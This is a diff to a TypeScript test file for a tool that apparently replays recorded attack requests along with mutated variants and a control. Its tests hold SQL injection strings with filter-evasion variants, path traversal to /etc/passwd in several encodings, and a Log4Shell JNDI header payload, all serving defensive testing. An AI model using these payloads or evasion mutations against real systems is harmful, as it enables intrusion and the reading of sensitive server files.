@@ -1,10 +1,10 @@
-import { ATTACK_CLASS_INFO, type Excerpt, type Finding } from '@sallyport/core';
+import { ATTACK_CLASS_INFO, type AttackClass, type Excerpt, type Finding } from '@sallyport/core';
 import { expect, it } from 'vitest';
 import { isPartlyMasked, replayRequests } from './replay-requests.ts';
 
-const at = (point: string): Finding => ({
-  ...{ detector: 'sqli.union', class: 'sqli', point, severity: 'high', confidence: 0.9, evidence: '', indicators: [] },
-  ...ATTACK_CLASS_INFO.sqli,
+const at = (point: string, name: AttackClass = 'sqli'): Finding => ({
+  ...{ detector: `${name}.test`, class: name, point, severity: 'high', confidence: 0.9, evidence: '', indicators: [] },
+  ...ATTACK_CLASS_INFO[name],
 });
 
 const excerpt = (target: string, body = '', type = 'application/json'): Excerpt => ({
@@ -27,6 +27,7 @@ it('sends the attack and mutations of it, and a control, with nothing of the cal
     ['recorded', "/search?q=a'%20union%20select&page=2"],
     ['case', "/search?q=A'%20uNiOn%20sElEcT&page=2"],
     ['comments', "/search?q=a'%2F**%2Funion%2F**%2Fselect&page=2"],
+    ['line-ends', "/search?q=a'%0Aunion%0Aselect&page=2"],
     ['encoded-twice', "/search?q=a'%2520union%2520select&page=2"],
   ]);
   for (const { headers } of requests) expect(headers).toEqual({ 'content-type': 'application/json' });
@@ -41,9 +42,39 @@ it('changes members of JSON and fields of forms, and nothing beside them', () =>
   expect(form[0]?.body).toBe('note=x1&to=ada');
 });
 
+it('changes segments of the path, and what follows the first step up', () => {
+  const targets = (target: string, point: string) =>
+    Object.fromEntries(replayRequests(excerpt(target), [at(point, 'path-traversal')]).map((one) => [one.name, one.target]));
+  expect(targets('/files/..%2f..%2fetc%2fpasswd?raw=1', 'path[1]|percent')).toEqual({
+    control: '/files/x1?raw=1',
+    recorded: '/files/..%2f..%2fetc%2fpasswd?raw=1',
+    'doubled-dots': '/files/....//....//etc/passwd?raw=1',
+    'path-parameter': '/files/..;/..;/etc/passwd?raw=1',
+    backslashes: '/files/..%5C..%5Cetc%5Cpasswd?raw=1',
+    encoded: '/files/%2e%2e%2F%2e%2e%2Fetc%2Fpasswd?raw=1',
+    'encoded-twice': '/files/..%2F..%2Fetc%2Fpasswd?raw=1',
+  });
+  expect(targets('/files/../../etc/passwd', 'path')).toMatchObject({
+    control: '/files/x1',
+    encoded: '/files/%2e%2e%2F%2e%2e%2Fetc%2Fpasswd',
+  });
+});
+
+it('sends the header that an attack stood in, never one that says who called', () => {
+  const log4shell = {
+    ...excerpt('/login'),
+    headers: [...excerpt('/login').headers, ['x-device', '${jndi:ldap://x/a}']] as Excerpt['headers'],
+  };
+  const [control, recorded] = replayRequests(log4shell, [at('header.x-device', 'log4shell'), at('header.x-api-key'), at('header.cookie')]);
+  expect(control?.headers).toEqual({ 'content-type': 'application/json', 'x-device': 'x1' });
+  expect(recorded?.headers).toEqual({ 'content-type': 'application/json', 'x-device': '${jndi:ldap://x/a}' });
+});
+
 it('sends only what was recorded where the place cannot be changed', () => {
   for (const [target, body, point] of [
-    ['/files/..%2f..%2fetc', '', 'path[1]'],
+    ['/files/a', '', 'path[7]'],
+    ['/files/a', '', 'path'],
+    ['/files', '', 'header.authorization'],
     ['/pay', '{"cut": "of', 'body.json.cut'],
     ['/pay', '{}', 'body.json.__proto__.x'],
   ] as const) {
